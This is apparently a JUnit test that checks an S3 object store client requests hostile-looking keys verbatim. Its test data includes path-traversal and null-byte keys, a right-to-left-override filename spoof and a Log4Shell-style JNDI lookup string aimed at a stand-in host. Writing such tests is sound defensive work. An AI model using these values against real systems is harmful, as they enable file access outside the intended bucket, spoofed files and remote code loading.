package dev.copydesk.s3;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import com.sun.net.httpserver.HttpServer;
import dev.copydesk.article.ArticleRef;
import dev.copydesk.article.Sequencer;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import software.amazon.awssdk.auth.credentials.AnonymousCredentialsProvider;
import software.amazon.awssdk.http.urlconnection.UrlConnectionHttpClient;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.s3.S3Client;

/**
 * A key names one object of one bucket, whatever it looks like: the request is for that key and
 * nothing else. Seen on the wire, since servers differ in what they make of such paths.
 */
final class HostileKeysTest {

  private final BlockingQueue<String> paths = new LinkedBlockingQueue<>();
  private HttpServer server;
  private S3Client s3;

  @BeforeEach
  void start() throws IOException {
    server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.createContext(
        "/",
        exchange -> {
          paths.add(exchange.getRequestURI().getRawPath());
          exchange.sendResponseHeaders(200, 1);
          exchange.getResponseBody().write('a');
          exchange.close();
        });
    server.start();
    s3 =
        S3Client.builder()
            .endpointOverride(URI.create("http://localhost:" + server.getAddress().getPort()))
            .region(Region.US_EAST_1)
            .credentialsProvider(AnonymousCredentialsProvider.create())
            .forcePathStyle(true)
            .httpClientBuilder(UrlConnectionHttpClient.builder())
            .build();
  }

  @AfterEach
  void stop() {
    s3.close();
    server.stop(0);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../other-bucket/secret.txt",
        "a/./b/../c.txt",
        "..",
        ".",
        "/",
        "//double//slashes//",
        "s3://other-bucket/secret.txt",
        "http://evil.example/x",
        "a?versionId=1&x=y#fragment",
        "%2e%2e%2fencoded%00.txt",
        "a+b c\u00a0d\te\nf.txt",
        "back\\slash|pipe\"quote'<tag>{brace}^~`.txt",
        "\u001b[2J\u007f\u0001.txt",
        "invoice\u202efdp.exe",
        "zu\u0308rich/Zürich/\ud83c\udf4e",
        "ends with a slash/",
        " space at both ends ",
        "con/nul/aux.txt",
        "${jndi:ldap://evil.example/a}",
        "article#article",
      })
  void theRequestIsForThisKeyAlone(String key) throws Exception {
    assertRequested(key);
    assertRequested(key + "x".repeat(1024 - key.getBytes(StandardCharsets.UTF_8).length));
  }

  private void assertRequested(String key) throws Exception {
    ArticleRef ref = new ArticleRef("articles", key, "", "", Sequencer.parse("01"));
    try (InputStream object = new S3ObjectStore(s3).open(ref).orElseThrow()) {
      assertArrayEquals(new byte[] {'a'}, object.readAllBytes());
    }
    String path = paths.take();
    assertFalse(path.contains("+"), "a plus would be ambiguous");
    assertEquals("/articles/" + key, URLDecoder.decode(path, StandardCharsets.UTF_8));
    assertEquals(ref, ArticleRef.of(ref.address(), "", "", ref.sequencer()));
    assertFalse(ref.printable().codePoints().anyMatch(Character::isISOControl), ref.printable());
  }
}
